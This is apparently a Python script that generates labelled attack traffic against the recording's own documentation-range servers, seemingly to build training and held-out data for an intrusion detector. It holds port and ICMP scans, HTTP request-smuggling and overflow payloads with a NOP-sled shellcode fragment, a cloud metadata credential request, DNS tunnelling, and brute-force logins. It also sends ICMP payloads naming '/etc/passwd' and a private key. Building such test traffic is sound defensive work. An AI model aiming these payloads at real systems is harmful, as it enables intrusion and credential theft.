#!/usr/bin/env python3
"""Attacks on our own servers, made on purpose. Usage: hostile.py LABELS SEED all|train|held-out ROUNDS

Harmless by construction: it runs in a namespace without a way out, against servers made for the recording, and the texts only
look like attacks. Each flow goes into the label file as `scan` (probing), `attack` (a hostile payload) or `bruteforce` (a guess,
which a single frame does not show).
"""
import base64
import random
import socket
import struct
import sys
import threading
import time
import urllib.parse

from labels import Labels
from texts import AGENTS, DNS_NAMES, FTP, HEADERS, IMAP, LINES, PATHS, POSTS, SMTP, VALUES

LABELS, SEED, PART, ROUNDS = Labels(sys.argv[1]), int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
WEB, MAIL, FILES, OTHER, DNS = (("192.0.2." + n, "2001:db8:1::" + n) for n in ("10", "25", "21", "40", "53"))
SCANNER, INTRUDER, TUNNEL, GUESSER = (("203.0.113." + n, "2001:db8:bad::" + n) for n in ("66", "67", "68", "69"))


def part_of(items):
    """The part of a list that this recording may use: a third of every list is held out of the training recording."""
    if PART == "train":
        return [item for i, item in enumerate(items) if i % 3 != 2]
    return [item for i, item in enumerate(items) if i % 3 == 2] if PART == "held-out" else list(items)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data + b"\0" * (len(data) % 2) if len(data) % 2 == 0 else data[:-1]))
    if len(data) % 2:
        total += data[-1] << 8
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def stream(label, source, target, port, pieces, wait=0.15):
    """One TCP conversation: sends each piece, reads what comes back."""
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(1.5)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            sock.bind((source, 0))
            sock.connect((target, port))
            LABELS.socket(label, "tcp", sock)
            if port in (21, 25, 110, 143):
                sock.recv(2048)
            sock.settimeout(wait)
            for piece in pieces:
                sock.sendall(piece)
                try:
                    while len(sock.recv(4096)) == 4096:
                        pass
                except TimeoutError:
                    pass
        except OSError as error:
            print(f"hostile: {target}:{port}: {error}", file=sys.stderr)


def datagrams(label, source, target, port, pieces):
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.bind((source, 0))
        sock.connect((target, port))
        LABELS.socket(label, "udp", sock)
        for piece in pieces:
            try:
                sock.send(piece)
            except OSError:
                pass
            time.sleep(0.01)


# --- scans -----------------------------------------------------------------------------------------------------------

COMMON_PORTS = [7, 9, 13, 19, 22, 23, 37, 79, 81, 88, 106, 111, 113, 119, 135, 139, 179, 199, 389, 427, 444, 445, 465, 512, 513, 514, 515,
                543, 548, 554, 587, 631, 646, 873, 990, 1025, 1026, 1110, 1433, 1521, 1720, 1723, 1755, 2000, 2049, 2121, 2717, 3000,
                3128, 3306, 3389, 3986, 4899, 5000, 5009, 5051, 5060, 5101, 5190, 5357, 5432, 5631, 5666, 5800, 5900, 5985, 6000, 6001,
                6646, 7001, 7070, 8000, 8008, 8009, 8081, 8443, 8888, 9100, 9200, 9999, 11211, 27017, 32768, 49152, 49157]


def raw_scan(rng, flags, ports, target=WEB[0]):
    """A scanner's own segments: no options or an MSS only, a small window, one source port for the whole run."""
    source, source_port = SCANNER[0], rng.randint(33000, 65000)
    LABELS.add("scan", "tcp", source, source_port, target, "*")
    options = b"\x02\x04\x05\xb4" if flags == 2 and rng.random() < 0.7 else b""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as sock:
        sock.bind((source, 0))
        for port in ports:
            header = struct.pack(">HHIIBBHHH", source_port, port, rng.getrandbits(32), 0, (5 + len(options) // 4) << 4, flags,
                                 rng.choice([1024, 1024, 2048, 3072, 4096, 65535]), 0, 0) + options
            pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(header))
            header = header[:16] + struct.pack(">H", checksum(pseudo + header)) + header[18:]
            sock.sendto(header, (target, 0))
            time.sleep(0.002)


def connect_scan(rng, ports, six):
    for port in ports:
        source, target = SCANNER[six], rng.choice([WEB, MAIL, OTHER])[six]
        with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.settimeout(0.3)
            sock.bind((source, 0))
            LABELS.add("scan", "tcp", source, sock.getsockname()[1], target, port)
            try:
                sock.connect((target, port))
            except OSError:
                pass


def udp_scan(rng, six):
    for port in rng.sample([7, 19, 69, 111, 137, 138, 177, 500, 520, 623, 1434, 1701, 2049, 4500, 5351, 5353, 17185, 27960, 31337, 47808], 12):
        probe = rng.choice([b"", b"\0" * 8, b"\r\n\r\n", rng.randbytes(12)])
        datagrams("scan", SCANNER[six], OTHER[six], port, [probe])


def sweep(rng):
    """Echo requests to every address of the net, those that nobody has too."""
    LABELS.add("scan", "icmp", SCANNER[0], 0, "*", 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.bind((SCANNER[0], 0))
        for last in rng.sample([10, 21, 25, 40, 53] * 5, 25):
            body = struct.pack(">BBHHH", 8, 0, 0, rng.getrandbits(16), 0) + (b"" if rng.random() < 0.6 else b"\0" * 8)
            sock.sendto(body[:2] + struct.pack(">H", checksum(body)) + body[4:], (f"192.0.2.{last}", 0))
            time.sleep(0.004)


def scans(rng):
    half = part_of(COMMON_PORTS)
    raw_scan(rng, 2, rng.sample(half, min(len(half), 45)) + rng.sample(range(1, 65000), 15))
    raw_scan(rng, 2, rng.sample(COMMON_PORTS, 25), MAIL[0])
    raw_scan(rng, rng.choice([1, 0, 0x29]), rng.sample(COMMON_PORTS, 14), OTHER[0])
    raw_scan(rng, 0x10, rng.sample(COMMON_PORTS, 8))
    connect_scan(rng, rng.sample(COMMON_PORTS, 20), False)
    connect_scan(rng, rng.sample(COMMON_PORTS, 12), True)
    udp_scan(rng, False)
    udp_scan(rng, True)
    sweep(rng)


# --- web -------------------------------------------------------------------------------------------------------------

def encode(rng, text):
    """One of the odd ways to write a value in a URL."""
    way = rng.randint(0, 6)
    if way == 0:
        return urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
    if way == 1:
        return "".join(f"%{byte:02x}" for byte in text.encode())
    if way == 2:
        return "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in text)
    if way == 3:
        return urllib.parse.quote("".join(rng.choice([c.upper(), c.lower()]) for c in text), safe="/.:=()")
    return urllib.parse.quote(text, safe="/.:;=()<>'$,*-{}|!")


def request(rng, method, target, headers=(), body=b"", agent=None):
    lines = [f"{method} {target} HTTP/1.1", "Host: www.campus.example", f"User-Agent: {agent or rng.choice(part_of(AGENTS))}",
             rng.choice(["Accept: */*", "Accept-Encoding: identity", "Connection: keep-alive"]), *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def fill(rng, text):
    """Marks in a text become numbers and names that differ from one use to the next."""
    return (text.replace("{N}", str(rng.randint(1, 9999))).replace("{H}", f"{rng.getrandbits(32):08x}")
            .replace("{T}", rng.choice(["users", "accounts", "orders", "members", "staff"])).replace("{A}", GUESSER[0]))


def web(rng):
    six = rng.random() < 0.2
    asks = []
    for _ in range(rng.randint(1, 3)):
        kind = rng.randint(0, 9)
        if kind <= 3:
            value = encode(rng, fill(rng, rng.choice(part_of(VALUES))))
            path = rng.choice(["/index.html", "/search", "/item.php", "/api/user", "/product/list.asp", "/view"])
            asks.append(request(rng, "GET", f"{path}?{rng.choice(['id', 'q', 'page', 'file', 'name', 'cat'])}={value}",
                                agent="Mozilla/5.0 (X11; Linux x86_64)" if rng.random() < 0.6 else None))
        elif kind <= 5:
            asks.append(request(rng, rng.choice(["GET", "GET", "HEAD"]), fill(rng, rng.choice(part_of(PATHS)))))
        elif kind == 6:
            asks.append(request(rng, "GET", "/", [fill(rng, rng.choice(part_of(HEADERS)))]))
        elif kind == 7:
            content, body = rng.choice(part_of(POSTS))
            body = fill(rng, body).encode()
            if rng.random() < 0.25:
                body, content = body.decode().encode("utf-16-le"), content + "; charset=utf-16le"
            asks.append(request(rng, "POST", rng.choice(["/form", "/api/login", "/xmlrpc.php", "/upload.php"]), [f"Content-Type: {content}"], body))
        elif kind == 8:
            value = encode(rng, fill(rng, rng.choice(part_of(VALUES))))
            asks.append(request(rng, "POST", "/form", ["Content-Type: application/x-www-form-urlencoded"], f"user=admin&note={value}".encode()))
        else:
            asks.append(web_odd(rng))
    stream("attack", INTRUDER[six], WEB[six], 80, asks)


def web_odd(rng):
    kind = rng.randint(0, 6)
    if kind == 0:
        return (b"POST /form HTTP/1.1\r\nHost: www.campus.example\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"0\r\n\r\nGET /private/staff.html HTTP/1.1\r\nX: x")
    if kind == 1:
        return (b"POST /form HTTP/1.1\r\nHost: www.campus.example\r\nTransfer-Encoding:\x0bchunked\r\nTransfer-Encoding: identity\r\n"
                b"Content-Length: 6\r\n\r\n0\r\n\r\nG")
    if kind == 2:
        return b"GET /" + rng.choice([b"A", b"%41", b"../", b"\x90"]) * rng.randint(300, 420) + b" HTTP/1.0\r\n\r\n"
    if kind == 3:
        ranges = ",".join(f"5-{i}" for i in range(5, rng.randint(60, 140)))
        return request(rng, "GET", "/report.pdf", [f"Range: bytes=0-,{ranges}"])
    if kind == 4:
        sled = b"\x90" * rng.randint(40, 300) + b"\xeb\x1f\x5e\x89\x76\x08\x31\xc0" + b"\xcc" * 24 + b"/bin/sh"
        return request(rng, "POST", "/cgi-bin/upload", ["Content-Type: application/octet-stream"], sled)
    if kind == 5:
        return rng.choice([b"TRACE / HTTP/1.1\r\nHost: x\r\nMax-Forwards: 0\r\n\r\n", b"CONNECT 192.0.2.25:25 HTTP/1.1\r\nHost: 192.0.2.25:25\r\n\r\n",
                           b"PROPFIND / HTTP/1.1\r\nHost: x\r\nDepth: infinity\r\n\r\n", b"DEBUG /x.aspx HTTP/1.1\r\nHost: x\r\nCommand: stop-debug\r\n\r\n"])
    return b"GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"


# --- names -----------------------------------------------------------------------------------------------------------

def dns_query(rng, name, kind, flags=0x0100, klass=1):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b".") if part)
    return struct.pack(">HHHHHH", rng.getrandbits(16), flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, klass)


def tunnel(rng):
    six = rng.random() < 0.3
    secret = rng.randbytes(400)
    queries = []
    for i in range(rng.randint(4, 9)):
        piece = secret[i * 36:i * 36 + 36]
        coded = rng.choice([base64.b32encode(piece).rstrip(b"=").lower(), piece.hex().encode(), base64.urlsafe_b64encode(piece).rstrip(b"=")])
        coded = coded[:rng.randint(56, 63)]
        queries.append(dns_query(rng, coded + b"." + rng.choice([b"t%d" % i, coded[:30]]) + b".tun.campus.example", rng.choice([16, 10, 5, 28, 1])))
    datagrams("attack", TUNNEL[six], DNS[six], 53, queries)


def dns_odd(rng):
    six = rng.random() < 0.3
    kind = rng.randint(0, 4)
    if kind == 0:
        question = dns_query(rng, b"campus.example", 252)
        stream("attack", TUNNEL[six], DNS[six], 53, [struct.pack(">H", len(question)) + question])
    elif kind == 1:
        names = [dns_query(rng, rng.choice([b"version.bind", b"hostname.bind", b"authors.bind", b"id.server"]), 16, klass=3) for _ in range(2)]
        datagrams("attack", TUNNEL[six], DNS[six], 53, names)
    elif kind == 2:
        datagrams("attack", TUNNEL[six], DNS[six], 53, [dns_query(rng, b"campus.example", 255) + b"" for _ in range(5)])
    elif kind == 3:
        names = [bytes(rng.choice(b"bcdfghjklmnpqrstvwxz") for _ in range(rng.randint(14, 24))) + rng.choice([b".example", b".campus.example"])
                 for _ in range(6)]
        datagrams("attack", TUNNEL[six], DNS[six], 53, [dns_query(rng, name, 1) for name in names])
    else:
        name = rng.choice(part_of(DNS_NAMES)).encode()
        datagrams("attack", TUNNEL[six], DNS[six], 53, [dns_query(rng, name, 16), struct.pack(">HHHHHH", 1, 0x0100, 9, 9, 9, 9) + b"\xc0\x0c" * 8])


# --- mail, files, others ---------------------------------------------------------------------------------------------

def smtp(rng):
    six = rng.random() < 0.2
    kind = rng.randint(0, 4)
    hello = b"EHLO probe\r\n"
    if kind == 0:
        long = rng.choice([b"A", b"\x90", b"x.", b"%n", b"@"]) * rng.randint(200, 500)
        pieces = [rng.choice([b"EHLO ", b"HELO ", b"MAIL FROM:<", b"HELP ", b"EXPN "]) + long + b"\r\n"]
    elif kind == 1:
        pieces = [hello] + [rng.choice([b"VRFY ", b"EXPN "]) + name + b"\r\n"
                            for name in rng.sample([b"root", b"admin", b"test", b"guest", b"oracle", b"decode", b"uudecode", b"bin"], 5)]
    elif kind == 2:
        pieces = [hello, b"MAIL FROM:<a@mail.example>\r\n", b"RCPT TO:<victim%elsewhere.example@campus.example>\r\n",
                  b"RCPT TO:<@mail.campus.example:victim@elsewhere.example>\r\n", b"QUIT\r\n"]
    else:
        text = "\r\n".join(fill(rng, line) for line in rng.sample(part_of(SMTP), min(2, len(part_of(SMTP)))))
        pieces = [hello, b"MAIL FROM:<billing@mail.example>\r\n", b"RCPT TO:<alice@campus.example>\r\n", b"DATA\r\n",
                  f"From: Billing <billing@mail.example>\r\nSubject: Invoice {rng.randint(1, 9999)}\r\n{text}\r\n.\r\n".encode(), b"QUIT\r\n"]
    stream("attack", INTRUDER[six], MAIL[six], 25, pieces)


def guesses(rng):
    six = rng.random() < 0.2
    names = rng.sample(["root", "admin", "test", "oracle", "user", "guest", "www", "backup"], 3)
    kind = rng.randint(0, 4)
    code = lambda text: base64.b64encode(text.encode()) + b"\r\n"
    words = rng.sample(["123456", "password", "admin", "letmein", "qwerty", "toor", "changeme", "P@ssw0rd"], 3)
    if kind == 0:
        for name, word in zip(names, words):
            stream("bruteforce", GUESSER[six], FILES[six], 21, [f"USER {name}\r\n".encode(), f"PASS {word}\r\n".encode()])
    elif kind == 1:
        stream("bruteforce", GUESSER[six], MAIL[six], 25, [b"EHLO x\r\n"] + [p for n, w in zip(names, words) for p in (b"AUTH LOGIN\r\n", code(n), code(w))])
    elif kind == 2:
        stream("bruteforce", GUESSER[six], MAIL[six], 110, [p for n, w in zip(names[:2], words) for p in (f"USER {n}\r\n".encode(), f"PASS {w}\r\n".encode())])
    elif kind == 3:
        stream("bruteforce", GUESSER[six], MAIL[six], 143, [f"a{i} LOGIN {n} {w}\r\n".encode() for i, (n, w) in enumerate(zip(names[:2], words))])
    else:
        asks = [request(rng, "GET", "/private/staff.html", ["Authorization: Basic " + base64.b64encode(f"{n}:{w}".encode()).decode()],
                        agent="Mozilla/4.0 (Hydra)") for n, w in zip(names, words)]
        stream("bruteforce", GUESSER[six], WEB[six], 80, asks)


def ftp(rng):
    six = rng.random() < 0.2
    login = [b"USER anonymous\r\n", b"PASS -wwwuser@\r\n"]
    lines = [fill(rng, line).encode("latin-1") + b"\r\n" for line in rng.sample(part_of(FTP), min(3, len(part_of(FTP))))]
    if rng.random() < 0.3:
        lines = [rng.choice([b"USER ", b"CWD ", b"MKD ", b"STAT ", b"SITE CHMOD 777 "]) + rng.choice([b"A", b"\x90", b"/.", b"%s%n"]) * rng.randint(120, 260) + b"\r\n"]
        login = login if rng.random() < 0.5 else []
    stream("attack", INTRUDER[six], FILES[six], 21, login + lines)


def mailbox(rng):
    six = rng.random() < 0.2
    port = rng.choice([110, 143])
    texts = part_of(IMAP)
    pieces = [fill(rng, rng.choice(texts)).encode("latin-1") + b"\r\n"]
    if rng.random() < 0.5:
        word = rng.choice([b"A", b"\x90", b"%x", b"\xcc"]) * rng.randint(200, 400)
        pieces = [b"a1 LOGIN " + word + b" x\r\n" if port == 143 else b"USER " + word + b"\r\n"]
    stream("attack", INTRUDER[six], MAIL[six], port, pieces)


def shells(rng):
    """Command lines where none belong: back doors, worms, default passwords, databases."""
    six = rng.random() < 0.2
    port, lines = rng.choice(part_of(LINES))
    pieces = [fill(rng, line).encode("latin-1") for line in lines]
    (datagrams if port in (161, 1900, 5060, 11211) else stream)("attack", INTRUDER[six], OTHER[six], port, pieces)


def echo_tunnel(rng):
    LABELS.add("attack", "icmp", TUNNEL[0], 0, OTHER[0], 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.bind((TUNNEL[0], 0))
        for i in range(5):
            text = rng.choice([b"cat /etc/passwd;id", b"uid=0(root) gid=0(root) groups=0(root)", b"cmd.exe /c whoami", b"-----BEGIN RSA PRIVATE KEY-----"])
            body = struct.pack(">BBHHH", 8, 0, 0, 0x4444, i) + (text + b"\n") * rng.randint(1, 12)
            sock.sendto(body[:2] + struct.pack(">H", checksum(body)) + body[4:], (OTHER[0], 0))
            time.sleep(0.01)


ACTIONS = [(web, 62), (tunnel, 6), (dns_odd, 8), (smtp, 12), (guesses, 8), (ftp, 10), (mailbox, 6), (shells, 12), (echo_tunnel, 2)]


def worker(number):
    rng = random.Random(SEED * 1000 + number)
    actions, weights = zip(*ACTIONS)
    for action in rng.choices(actions, weights, k=45 * ROUNDS):
        action(rng)
        time.sleep(rng.random() * 0.05)


def main():
    threads = [threading.Thread(target=worker, args=(i,)) for i in range(3)]
    threads.append(threading.Thread(target=scans, args=(random.Random(SEED * 1000 + 99),)))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()



main()
